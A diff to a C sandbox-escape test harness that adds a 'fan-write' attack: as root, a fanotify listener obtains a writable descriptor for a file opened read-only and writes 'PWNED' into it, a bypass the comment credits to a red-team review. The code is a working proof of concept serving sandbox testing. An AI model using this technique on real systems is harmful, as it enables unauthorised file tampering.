@@ -88,6 +88,9 @@
  *                                         a grandchild forked before our release,
  *                                         reparented to us (a subreaper), is
  *                                         released (DIR/denied/pwned)
+ *   syd-attack fan-write FILE             (root) FILE opened read-only under a
+ *                                         fanotify FAN_OPEN mark: the event's
+ *                                         descriptor is open for writing
  *   syd-attack own-mem [CMD]              after magic CMD, write our own memory
  *                                         through /proc/self/mem and
  *                                         /proc/self/task/TID/mem (exit 0)
@@ -166,6 +169,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/fanotify.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
@@ -1676,6 +1680,27 @@ static int own_mem(const char* cmd) {
   }
   printf("own memory: %s, thread's: %s\n", said[0], said[1]);
   return ok ? 0 : 1;
+}
+
+/* fan-write FILE: (root) fanotify hands out descriptors the kernel opens
+ * itself, with the listener's event_f_flags: a FAN_OPEN mark on FILE, a
+ * read-only open of it, and the event's descriptor is open for writing.
+ * No open(2) of FILE for writing is ever made (found by a red-team review;
+ * with FAN_MARK_FILESYSTEM the same listener gets descriptors of files any
+ * process on the host opens). */
+static int fan_write(const char* file) {
+  int fan = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDWR | O_CLOEXEC | O_LARGEFILE);
+  if (fan < 0) return blocked("fanotify_init", errno);
+  if (fanotify_mark(fan, FAN_MARK_ADD, FAN_OPEN, AT_FDCWD, file) != 0) return blocked("fanotify_mark", errno);
+  int r = open(file, O_RDONLY | O_CLOEXEC);
+  if (r < 0) return blocked("open O_RDONLY", errno);
+  char buf[4096];
+  ssize_t n = read(fan, buf, sizeof buf);
+  struct fanotify_event_metadata* ev = (struct fanotify_event_metadata*)buf;
+  if (n < (ssize_t)sizeof *ev) return blocked("fanotify event", n < 0 ? errno : EIO);
+  if (ev->fd < 0) return blocked("fanotify event fd", EBADF);
+  if (pwrite(ev->fd, "PWNED\n", 6, 0) != 6) return blocked("pwrite", errno);
+  return escaped("fan-write: %s written through a fanotify event's O_RDWR descriptor", file);
 }
 
 /* stale-parent: a stale parent entry. U, a child of ours made while we are still
@@ -3641,6 +3666,7 @@ int main(int argc, char** argv) {
   if (IS("ipc-dead-peer") && argc > 3) return ipc_dead_peer(a, b, argc > 4 ? atoi(argv[4]) : 50);
   if (IS("detached-tid") && argc > 2) return detached_tid(a);
   if (IS("mem-hijack") && argc > 3) return mem_hijack(a, b);
+  if (IS("fan-write") && argc > 2) return fan_write(a);
   if (IS("own-mem")) return own_mem(argc > 2 ? a : "");
   if (IS("caps-across-exec") && argc > 2) return caps_across_exec(a);
   if (IS("caps-after-exec") && argc > 2) return caps_after_exec(a);
